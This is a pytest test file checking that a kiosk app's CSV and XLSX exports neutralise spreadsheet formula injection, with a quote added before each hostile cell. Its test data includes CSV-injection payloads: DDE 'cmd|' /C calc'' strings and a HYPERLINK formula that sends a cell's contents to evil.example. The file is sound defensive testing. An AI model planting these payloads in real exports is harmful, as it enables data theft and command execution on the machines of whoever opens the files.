"""Every CSV and XLSX file Kiosk writes keeps data inert in spreadsheets, and takes the same
``--delimiter``.

Reference: OWASP "CSV Injection" — a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return may be evaluated as a formula by Excel and LibreOffice; prefixing it with a
single quote keeps it text. The hostile values below are the usual payloads from that page
(DDE ``cmd|``, ``HYPERLINK``, arithmetic, ``@SUM``) plus their space-led, full-width and
control-character variants.

One test runs every export (the attendance export as CSV with each delimiter and as XLSX, the
report as CSV — register and summary — and XLSX in each language, the ticket folder's
mail-merge list) over an event whose every data field is hostile, and reads the files back with
the csv module and openpyxl. Two more keep it complete: no module but the one writer
(``kiosk/reports/export.py``) writes CSV or XLSX, and every command that writes CSV has the same
``--delimiter`` option.
"""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import click
import openpyxl
import pytest
from click.testing import CliRunner

from kiosk.app.checkin import CheckinService
from kiosk.cli.main import cli
from kiosk.reports.export import neutralise, to_xlsx
from kiosk.storage import events
from kiosk.storage.attendees import NewAttendee, insert_many
from kiosk.storage.database import Database

DAY = date(2026, 9, 28)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
    "=1+1\x07",  # a control character XLSX cannot hold
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _dangerous(text: str) -> bool:
    return text.lstrip(" ").startswith(FORMULA_STARTS)


@pytest.fixture
def hostile_event(tmp_path: Path) -> Path:
    """An event where every text a person or a kiosk can bring in is a formula payload: names,
    organisation, country, category, e-mail, ticket code, kiosk name, a list's name, the event
    and venue."""
    path = tmp_path / "event.db"
    db = Database(path, create=True)
    events.create_event(db, HOSTILE[0], [DAY], "UTC", venue=HOSTILE[1])
    people = [
        NewAttendee(
            code=f"={n}+1" if n % 2 else f"-{n}A",
            first_name=text,
            last_name=HOSTILE[(n + 1) % len(HOSTILE)],
            organization=HOSTILE[(n + 2) % len(HOSTILE)],
            country=HOSTILE[(n + 3) % len(HOSTILE)],
            email=f"=p{n}@example.ro",
            category=HOSTILE[(n + 4) % len(HOSTILE)],
        )
        for n, text in enumerate(HOSTILE)
    ]
    with db.write() as conn:
        insert_many(conn, people, "2026-09-01T00:00:00Z")
    kiosk = events.rename_kiosk(db, events.local_kiosk(db), "=cmd|' /C calc'!A0")
    workshop = events.add_list(db, "@SUM(1+1)*cmd|' /C calc'!A0", day=DAY)  # a list staff named
    desk = CheckinService(db, kiosk)
    at = datetime(2026, 9, 28, 9, 0, tzinfo=UTC)
    for person in people:
        assert desk.scan(person.code, at=at).decision.admitted, person.code
        assert desk.scan(person.code, at=at, list_id=workshop.id).decision.admitted
    db.close()
    return path


def _run(db: Path, *args: str) -> None:
    result = CliRunner().invoke(cli, ["--db", str(db), *args], catch_exceptions=False)
    assert result.exit_code == 0, result.output


def _csv_cells(path: Path, delimiter: str) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle, delimiter=delimiter) for cell in row]


def _xlsx_cells(path: Path) -> list[str]:
    cells: list[str] = []
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


def test_every_export_writes_hostile_data_as_inert_text(
    hostile_event: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    written: dict[str, list[str]] = {}
    for name, char in ((";", ";"), (",", ","), ("tab", "\t")):
        tag = {";": "semicolon", ",": "comma", "tab": "tab"}[name]
        export = out / f"attendance-{tag}.csv"
        _run(hostile_event, "export", "attendance", "--day", DAY.isoformat(), "-o", str(export),
             "--delimiter", name)  # fmt: skip
        written[export.name] = _csv_cells(export, char)
        report = out / f"report-{tag}.csv"
        _run(hostile_event, "report", "-o", str(report), "--delimiter", name)
        written[report.name] = _csv_cells(report, char)
        summary = out / f"report-{tag}-summary.csv"
        written[summary.name] = _csv_cells(summary, char)
        tickets = out / f"tickets-{tag}"
        _run(hostile_event, "tickets", "-o", str(tickets), "--delimiter", name)
        written[f"{tickets.name}/mail-merge.csv"] = _csv_cells(tickets / "mail-merge.csv", char)
    book = out / "attendance.xlsx"
    _run(hostile_event, "export", "attendance", "--day", DAY.isoformat(), "-o", str(book))
    written[book.name] = _xlsx_cells(book)
    for language in ("en", "bg", "ro"):
        report_book = out / f"report-{language}.xlsx"
        _run(hostile_event, "report", "-o", str(report_book), "--language", language)
        written[report_book.name] = _xlsx_cells(report_book)

    for name, cells in written.items():
        assert not [c for c in cells if _dangerous(c)], name
        # The data is there, kept as text with the quote in front (not dropped or mangled).
        assert any(c.startswith("'=HYPERLINK") for c in cells), name
    mail_merge = written["tickets-comma/mail-merge.csv"]
    assert "'=1+1" in mail_merge and "'-0A" in mail_merge  # the code column (issue 19 point 3)
    assert any(c.startswith("ticket-") for c in mail_merge)  # the file column
    assert "'=1+1" in written["attendance.xlsx"]  # stored cleaned of its control character
    list_name = "'@SUM(1+1)*cmd|' /C calc'!A0"  # the list staff named, in the per-list tables
    assert any(list_name in cells for cells in written.values())


def test_a_control_character_cannot_break_or_unlock_an_xlsx_cell() -> None:
    data = to_xlsx(["name"], [["=1+1\x07"], ["\x00@SUM(1)"]], title="t", sheet="s")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    values = [c.value for row in sheet.iter_rows(min_row=3) for c in row]
    # XML cannot hold these characters: written as the standard _xHHHH_ escapes, as text.
    assert values == ["'=1+1_x0007_", "_x0000_@SUM(1)"]
    assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row)


def test_neutralise_quotes_exactly_the_cells_a_spreadsheet_would_evaluate() -> None:
    for text in HOSTILE:
        assert neutralise(text) == "'" + text
    for text in ("Ștefănescu", "Иванов", "", "O'Brien", "3+4", "ana@example.ro", "a=b", " x"):
        assert neutralise(text) == text


KIOSK = Path(__file__).resolve().parents[2] / "kiosk"
WRITER = KIOSK / "reports" / "export.py"


def test_no_module_but_the_one_writer_writes_csv_or_xlsx() -> None:
    offenders = []
    for path in sorted(KIOSK.rglob("*.py")):
        if path == WRITER:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                if isinstance(node.value, ast.Name) and node.value.id == "csv":
                    offenders.append(f"{path.relative_to(KIOSK)}:{node.lineno} csv.{node.attr}")
            elif isinstance(node, ast.ImportFrom) and node.module:
                names = {a.name for a in node.names}
                if node.module == "csv" and names & {"writer", "DictWriter"}:
                    offenders.append(f"{path.relative_to(KIOSK)}:{node.lineno} csv writer")
                if node.module.startswith("openpyxl") and "Workbook" in names:
                    offenders.append(f"{path.relative_to(KIOSK)}:{node.lineno} openpyxl Workbook")
            if isinstance(node, ast.Import | ast.ImportFrom):
                modules = [a.name for a in node.names] if isinstance(node, ast.Import) else [
                    node.module or ""
                ]
                if any(m.split(".")[0] == "xlsxwriter" for m in modules):
                    offenders.append(f"{path.relative_to(KIOSK)}:{node.lineno} xlsxwriter")
    assert offenders == []


def _commands(group: click.Group, prefix: str = "") -> list[tuple[str, click.Command]]:
    ctx = click.Context(group)
    found: list[tuple[str, click.Command]] = []
    for name in group.list_commands(ctx):
        command = group.get_command(ctx, name)
        assert command is not None
        if isinstance(command, click.Group):
            found += _commands(command, f"{prefix}{name} ")
        else:
            found.append((f"{prefix}{name}", command))
    return found


def test_every_command_that_writes_csv_takes_the_same_delimiter_option() -> None:
    writers = {}
    for name, command in _commands(cli):
        text = " ".join(
            (p.help or "") if isinstance(p, click.Option) else "" for p in command.params
        ) + (command.help or "")
        options = {p.name for p in command.params if isinstance(p, click.Option)}
        if "csv" in text.lower() and "output" in options:  # it writes a file, and CSV is one
            writers[name] = {
                p.name: p for p in command.params if isinstance(p, click.Option)
            }.get("delimiter")
    assert {"export attendance", "report", "tickets"} <= set(writers)
    shapes = {
        name: (option.type.choices, option.default, option.envvar) if option else None  # type: ignore[attr-defined]
        for name, option in writers.items()
    }
    assert len(set(shapes.values())) == 1 and None not in shapes.values(), shapes
